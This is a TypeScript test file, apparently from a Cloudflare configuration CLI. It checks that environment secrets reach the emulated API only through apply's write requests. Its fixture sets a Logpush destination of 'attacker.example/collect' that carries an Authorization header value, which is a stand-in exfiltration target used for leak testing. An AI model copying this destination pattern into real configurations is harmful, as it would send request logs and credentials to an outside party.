// docs/secrets.md's first row, from the emulator's request log: a value of `${env:…}` reaches Cloudflare only
// in the writes apply sends and Cloudflare's checks of them during apply. Every command that runs before the
// review (plan in every form, drift, show, export, whoami, audit, csp suggest, inventory) sends none of the
// values in any encoding, in any path, query or body; apply sends them, where the file wrote them.
import { join } from "node:path";
import { describe, expect, it } from "vitest";
import { TestEmulator, ZONE, runCli, tempDir, writeConfig, type LoggedRequest } from "../helpers/cli.js";

const emu = TestEmulator.perFile();

const VALUES = {
  LOG_AUTH: "flowHdr-7c1e9a0b4d",
  DESCRIPTION_SUFFIX: "flow-desc-5e2b",
  FILTER_HOST: 'flow"host\\9f.example',
};

const CONFIG = `version: 1
zones:
  - zone_id: ${ZONE.com}
    name: example.com
    page_shield:
      enabled: true
      policies:
        - description: "Checkout \${env:DESCRIPTION_SUFFIX}"
          action: log
          expression: "true"
          value: "script-src 'self'"
    logs:
      logpush_jobs:
        - name: to-https
          dataset: http_requests
          destination_conf: "https://attacker.example/collect?header_Authorization=\${env:LOG_AUTH}"
          filter:
            where: { key: ClientRequestHost, operator: eq, value: "\${env:FILTER_HOST}" }
`;

/** Each value in every form a request can carry it: as it is, URL-encoded, JSON-escaped once and twice. */
function forms(value: string): string[] {
  const once = JSON.stringify(value).slice(1, -1);
  return [value, encodeURIComponent(value), once, JSON.stringify(once).slice(1, -1)];
}

/** The requests that carry any value, in any form: method, path, query or body. */
function carrying(log: readonly LoggedRequest[]): string[] {
  return log.flatMap((r) => {
    const text = `${r.path} ${JSON.stringify(r.query)} ${JSON.stringify(r.body)}`;
    const found = Object.entries(VALUES).filter(([, v]) => forms(v).some((f) => text.includes(f)));
    return found.length > 0 ? [`${r.method} ${r.path}: ${found.map(([k]) => k).join(", ")}`] : [];
  });
}

describe("a value of the environment before the review", () => {
  it("reaches Cloudflare from no command but apply, in no form, and from apply only in its writes", async () => {
    const dir = await tempDir();
    const config = await writeConfig(CONFIG, "zoneform.yaml", dir);
    const planFile = join(dir, "plan.json");
    const env = { ...VALUES };
    const before: Array<[string, string[]]> = [
      ["plan", ["plan", "-c", config, "--verbose"]],
      ["plan --verify", ["plan", "-c", config, "--verify"]],
      ["plan --format json", ["plan", "-c", config, "--format", "json"]],
      ["plan --out", ["plan", "-c", config, "--out", planFile]],
      ["show", ["show", planFile]],
      ["drift", ["drift", "-c", config, "--format", "json"]],
      ["export", ["export", "--zone", "example.com", "--out", join(dir, "export.yaml")]],
      ["whoami", ["whoami", "-c", config]],
      ["audit", ["audit", "-c", config]],
      ["csp suggest", ["csp", "suggest", "--zone", "example.com"]],
      ["inventory", ["inventory", "--zone", "example.com", "--pages", "example.com/*"]],
    ];
    await emu.clearRequests();
    for (const [what, argv] of before) {
      const r = await runCli(emu, argv, { env });
      expect([0, 2], `${what}: ${r.stderr}`).toContain(r.code);
    }
    const beforeLog = await emu.requests();
    expect(beforeLog.length).toBeGreaterThan(10);
    expect(carrying(beforeLog)).toEqual([]);
    // Not even the destination check: it waits for apply.
    expect(beforeLog.filter((r) => r.method !== "GET").map((r) => r.path)).toEqual([]);

    await emu.clearRequests();
    const applied = await runCli(emu, ["apply", planFile], { env });
    expect(applied.code, applied.stderr).toBe(0);
    const log = await emu.requests();
    const withValues = carrying(log);
    // The destination check, then the writes: nothing else carries a value.
    expect(withValues.map((l) => l.replace(/^(\S+ \S+?):.*/, "$1")).sort()).toEqual([
      `POST /client/v4/zones/${ZONE.com}/logpush/jobs`,
      `POST /client/v4/zones/${ZONE.com}/logpush/validate/destination`,
      `POST /client/v4/zones/${ZONE.com}/page_shield/policies`,
    ]);
    const job = log.find((r) => r.method === "POST" && r.path.endsWith("/logpush/jobs"))!.body as Record<
      string,
      string
    >;
    expect(job.destination_conf).toBe(`https://attacker.example/collect?header_Authorization=${VALUES.LOG_AUTH}`);
    expect(JSON.parse(job.filter!).where.value).toBe(VALUES.FILTER_HOST);
    const again = await runCli(emu, ["plan", "-c", config, "--detailed-exitcode"], { env });
    expect(again.code, again.stdout + again.stderr).toBe(0);
  });
});
